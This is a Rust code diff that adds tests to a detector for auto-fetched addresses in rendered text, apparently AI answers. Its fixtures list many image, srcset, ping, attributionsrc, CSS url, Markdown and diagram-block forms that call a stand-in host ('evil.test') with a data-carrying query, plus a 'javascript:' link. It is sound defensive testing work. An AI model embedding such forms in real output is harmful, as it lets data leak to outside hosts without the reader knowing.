@@ -64,7 +64,7 @@ fn walk(top: &Handle, found: &mut Vec<Does>) {
                 "src" | "href" | "poster" | "background" | "data" | "action" | "formaction" | "lowsrc" => {
                     address(value, true);
                 }
-                "srcset" | "imagesrcset" | "ping" => {
+                "srcset" | "imagesrcset" | "ping" | "attributionsrc" => {
                     value.split(|c: char| c.is_whitespace() || c == ',').for_each(|part| address(part, true));
                 }
                 "style" => {
@@ -339,6 +339,7 @@ fn spellings_with(address: &str, tail: &str) -> Vec<String> {
             "<table background='A'><tr><td>",
             "<input type=image src=A>",
             "<a ping=A href=/x>y</a>",
+            "<img attributionsrc=A>",
             "<p style=\"background:url(A)\">x</p>",
             "<p style='background:url(\"A\")'>x</p>",
             "<image href=A>",
@@ -372,6 +373,90 @@ fn ordinary_spellings_are_found() {
         missed += usize::from(acts && ActiveWatch::of(&text).found().is_empty());
     }
     assert_eq!(missed, 0);
+}
+
+/// Two addresses of one value, the first on a host that may be pointed to: the other counts for itself.
+#[test]
+fn a_named_host_hides_no_other() {
+    let named = "https://docs.example.org/a.png";
+    let allowed = [Glob::new("docs.example.org")];
+    let found = |text: &str| ActiveWatch::of(text).found().iter().any(|one| one.kind(&allowed).is_some());
+    let other = "https://evil.test/p?d=aaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+    for form in [
+        "<img srcset=\"A 1x, B 2x\">",
+        "<img srcset=\"A,B\">",
+        "<a href=/x ping=\"A B\">x</a>",
+        "<img attributionsrc=\"A B\">",
+        "<p style=\"background:url(A),url(B)\">x</p>",
+        "<p style='cursor:url(\"A\");background:url(\"B\")'>x</p>",
+        "A|B",
+        "| A|B |",
+        "A\"B",
+        "A'B",
+        "A)B",
+        "(A)(B)",
+        "A]B",
+        "A`B",
+        "A\u{3002}B",
+        "A**B**",
+        "![A](B)",
+        "[![x](A)](B)",
+        "<A><B>",
+        "![x](A)![y](B)",
+        "<img src=A alt=x srcset=B>",
+        "```mermaid\ngraph TD; X[\"<img src='A'><img src='B'>\"]\n```",
+    ] {
+        for (first, second) in [(named, other), (other, named)] {
+            assert!(found(&form.replace('A', first).replace('B', second)), "{form}");
+        }
+        let text = form.replace(['A', 'B'], named);
+        assert!(!found(&text), "{text}");
+    }
+}
+
+/// Readers draw these blocks: what they name is fetched, what a click leads to must carry something.
+#[test]
+fn a_drawing_is_no_code() {
+    let address = "https://evil.test/p.png";
+    let forms = [
+        "graph TD\n  X[\"<img src='A'>\"] --> Y",
+        "graph TD\n  X@{ img: \"A\", label: \"x\" }",
+        "graph TD\n  X@{ img: \"//evil.test/p\", label: \"x\" }",
+        "graph TD\n  X[\"`![x](A)`\"]",
+        "%%{init: {'themeCSS': '.x { background: url(A) }'}}%%\ngraph TD",
+        "graph TD\n  style X fill:url(A)",
+        "graph TD\n\n  X --> Y\n  click X \"javascript:alert(1)\"",
+        "graph TD\n  click X \"A?q=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"",
+        "{\"data\": {\"url\": \"https:\\/\\/evil.test\\/d.json\"}}",
+        "{\"data\": {\"url\": \"A\"}}",
+        "@startuml\n!include A\n@enduml",
+        "digraph { x [image=\"A\"] }",
+    ];
+    for form in forms {
+        for fence in ["```", "~~~", "````"] {
+            for word in ["mermaid", "Mermaid", " mermaid", "{.mermaid}", "vega-lite", "dot"] {
+                let text = format!("Well.\n\n{fence}{word}\n{}\n{fence}\n\nDone.", form.replace('A', address));
+                let whole = ActiveWatch::of(&text).found().to_vec();
+                assert!(whole.iter().any(|one| one.kind(&[]).is_some()), "{text}");
+                for at in (0..text.len()).filter(|at| text.is_char_boundary(*at)) {
+                    let mut watch = ActiveWatch::default();
+                    watch.feed(&text[..at]);
+                    watch.feed(&text[at..]);
+                    watch.finish();
+                    assert_eq!(watch.found(), whole, "cut at {at}: {text}");
+                }
+                let shown = text.replace(word, "text");
+                assert!(ActiveWatch::of(&shown).found().iter().all(|one| one.kind(&[]).is_none()), "{shown}");
+            }
+        }
+    }
+    for text in [
+        "```mermaid\ngraph TD\n  A[\"Start\"] -->|yes| B{Is it?}\n  B -->|no| C[\"a<br/>b\"]\n  click A \"https://example.net/docs\"\n```",
+        "```mermaid\nclassDiagram\n  class A {\n    <<interface>>\n    +List~int~ x\n  }\n  A <|-- B\n```\n\n```html\n<script src=\"https://cdn.example.net/a.js\"></script>\n```",
+        "```dot\ndigraph { a -> b [label=\"x/y\"] }\n```\n\nUse `<script>` there.",
+    ] {
+        stays(&format!("Well.\n\n{text}"));
+    }
 }
 
 /// Parts of ordinary answers, each a block of its own.
